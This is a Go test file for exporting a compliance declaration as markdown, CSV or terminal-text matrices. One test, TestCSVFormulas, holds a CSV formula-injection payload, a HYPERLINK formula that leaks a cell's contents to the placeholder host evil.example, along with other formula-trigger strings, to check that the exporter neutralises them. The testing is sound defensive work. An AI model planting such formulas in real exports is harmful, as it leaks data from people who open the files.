package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/evident-dev/evident/generator/model"
)

// sample is a small declaration: the guideline with a covered, an unaddressed and a
// not-applicable requirement, and an SSDF practice rolled up from its task.
func sample() *model.Declaration {
	gw := func(s model.Status) map[string]model.Status { return map[string]model.Status{"gw": s} }
	return &model.Declaration{
		BaseURL: "https://trust.example.com/", Languages: []string{"ja", "en"}, Framework: "cip",
		Declaration:  model.Statement{Title: model.Text{"ja": "宣言", "en": "Declaration"}, Version: "2026.1", Date: "2026-11-01"},
		Organization: model.Organization{Name: model.Text{"ja": "ACME株式会社"}},
		Products:     []model.Product{{ID: "gw", Name: model.Text{"en": "Gateway"}, Kind: "software"}},
		Catalogs: []model.Catalog{
			{ID: "cip", Version: "draft-2025-10", Title: model.Text{"ja": "ガイドライン", "en": "Guidelines"}, Default: true},
			{ID: "ssdf", Version: "1.1", Title: model.Text{"en": "SSDF"}},
		},
		Items: map[string]*model.Item{
			"1":           {Key: "1", ID: "(1)", Framework: "cip", Slug: "1", Level: "category", Title: model.Text{"ja": "設計", "en": "Design"}, Summary: model.Text{"en": "Secure design."}, Party: "provider", Status: model.Partial, Products: gw(model.Partial), Children: []string{"1-2", "1-3", "1-4"}},
			"1-2":         {Key: "1-2", ID: "(1)-2", Framework: "cip", Slug: "1-2", Level: "requirement", Parent: "1", Title: model.Text{"ja": "セキュアなビルド", "en": "Secure build"}, Status: model.Implemented, Products: gw(model.Implemented), Evidence: []string{"b"}, URL: "https://trust.example.com/requirements/1-2/"},
			"1-3":         {Key: "1-3", ID: "(1)-3", Framework: "cip", Slug: "1-3", Level: "requirement", Parent: "1", Title: model.Text{"ja": "テスト|結合", "en": "Testing"}, Status: model.NotAddressed, Products: gw(model.NotAddressed)},
			"1-4":         {Key: "1-4", ID: "(1)-4", Framework: "cip", Slug: "1-4", Level: "requirement", Parent: "1", Title: model.Text{"ja": "監視", "en": "Monitoring"}, Status: model.NotApplicable, Products: gw(model.NotApplicable), Evidence: []string{"na"}},
			"ssdf/pw":     {Key: "ssdf/pw", ID: "PW", Framework: "ssdf", Slug: "pw", Level: "category", Title: model.Text{"en": "Produce Well-Secured Software"}, Status: model.Partial, Products: gw(model.Partial), Children: []string{"ssdf/pw-6"}},
			"ssdf/pw-6":   {Key: "ssdf/pw-6", ID: "PW.6", Framework: "ssdf", Slug: "pw-6", Level: "requirement", Parent: "ssdf/pw", Title: model.Text{"en": "Configure the build"}, Status: model.Partial, Products: gw(model.Partial), Children: []string{"ssdf/pw-6-1"}},
			"ssdf/pw-6-1": {Key: "ssdf/pw-6-1", ID: "PW.6.1", Framework: "ssdf", Slug: "pw-6-1", Level: "individual", Parent: "ssdf/pw-6", Title: model.Text{"en": "Toolchain features"}, Summary: model.Text{"en": "Use them."}, Status: model.Partial, Products: gw(model.Partial), Evidence: []string{"b"}},
		},
		Order: []string{"1", "1-2", "1-3", "1-4", "ssdf/pw", "ssdf/pw-6", "ssdf/pw-6-1"},
		Evidence: map[string]*model.Evidence{
			"b":  {Slug: "b", Title: model.Text{"ja": "ビルド"}, Status: model.Implemented, Path: "/evidence/b/"},
			"na": {Slug: "na", Title: model.Text{"ja": "監視なし"}, Status: model.NotApplicable, Justification: model.Text{"ja": "サービスを運用しない。", "en": "We operate no service."}, Path: "/evidence/na/"},
		},
		Summary: model.Counts{Total: 3, Implemented: 1, NotApplicable: 1, NotAddressed: 1},
	}
}

func TestMatrixFormats(t *testing.T) {
	var md, csv, text bytes.Buffer
	if err := WriteMatrix(&md, "markdown", sample(), MatrixOptions{Lang: "ja"}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(md.String(), `| (1)-3 | テスト\|結合 | ✕ エビデンス未提示 |`) {
		t.Errorf("markdown escapes | and shows symbol + word:\n%s", md.String())
	}
	if err := WriteMatrix(&csv, "csv", sample(), MatrixOptions{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(csv.String(), "cip,(1)-2,requirement,セキュアなビルド,implemented,implemented\r\n") {
		t.Errorf("csv:\n%s", csv.String())
	}
	if err := WriteMatrix(&text, "text", sample(), MatrixOptions{Lang: "en", Color: true}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(text.String(), "\x1b[32m● Implemented") || !strings.Contains(text.String(), "Of 3 requirements: 1 implemented") || !strings.Contains(text.String(), ", 1 with no evidence given") {
		t.Errorf("text:\n%s", text.String())
	}
	if err := WriteMatrix(&text, "yaml", sample(), MatrixOptions{}); err == nil {
		t.Error("an unknown format is not an error")
	}
}

// TestCSVFormulas: a cell that a spreadsheet would run as a formula is written as text,
// with a leading single quote; IDs such as "(1)-2" and other cells are left as they are.
func TestCSVFormulas(t *testing.T) {
	m := sample()
	m.Items["1-2"].Title = model.Text{"en": `=HYPERLINK("https://evil.example/?"&A1,"click")`}
	m.Items["1-3"].Title = model.Text{"en": "-1+1"}
	m.Items["1"].Title = model.Text{"en": "@SUM(1+1)\t+＝1"}
	m.Items["1-3"].ID = "-(1)-3"
	var b bytes.Buffer
	if err := WriteMatrix(&b, "csv", m, MatrixOptions{Lang: "en"}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range rows[1:4] {
		got = append(got, r[1], r[3])
	}
	want := []string{
		"(1)", "'@SUM(1+1)\t+＝1",
		"(1)-2", `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"'-(1)-3", "'-1+1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("id and title cells (-want +got):\n%s", diff)
	}
	for _, tc := range []struct{ in, want string }{
		{"＋1", "'＋1"}, {"－1", "'－1"}, {"＠x", "'＠x"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
		{"(1)-2", "(1)-2"}, {"1-1", "1-1"}, {"", ""}, {"'=x", "'=x"}, {" =x", " =x"},
	} {
		if got := CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestCSV: the matrix as CSV is RFC 4180 (CRLF line endings, also inside a quoted cell),
// has every framework the site uses, and names levels as each catalog does.
func TestCSV(t *testing.T) {
	m := sample()
	m.Items["1-3"].Title = model.Text{"en": "Two\nlines"}
	levels := map[string][3]model.Text{
		"cip":  {{"en": "Requirement category"}, {"en": "Requirement"}, {"en": "Individual requirement"}},
		"ssdf": {{"en": "Group"}, {"en": "Practice"}, {"en": "Task"}},
	}
	var b bytes.Buffer
	if err := WriteMatrix(&b, "csv", m, MatrixOptions{Lang: "en", LevelNames: levels}); err != nil {
		t.Fatal(err)
	}
	want := bom + "framework,id,level,title,status,gw\r\n" +
		"cip,(1),Requirement category,Design,partial,partial\r\n" +
		"cip,(1)-2,Requirement,Secure build,implemented,implemented\r\n" +
		"cip,(1)-3,Requirement,\"Two\r\nlines\",not-addressed,not-addressed\r\n" +
		"cip,(1)-4,Requirement,Monitoring,not-applicable,not-applicable\r\n" +
		"ssdf,PW,Group,Produce Well-Secured Software,partial,partial\r\n" +
		"ssdf,PW.6,Practice,Configure the build,partial,partial\r\n" +
		"ssdf,PW.6.1,Task,Toolchain features,partial,partial\r\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("csv (-want +got):\n%s", diff)
	}
	// Without level names (a framework the options do not name), the model's level.
	b.Reset()
	if err := WriteMatrix(&b, "csv", m, MatrixOptions{Lang: "en"}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "ssdf,PW.6.1,individual,Toolchain features,") {
		t.Errorf("csv without level names:\n%s", b.String())
	}
}
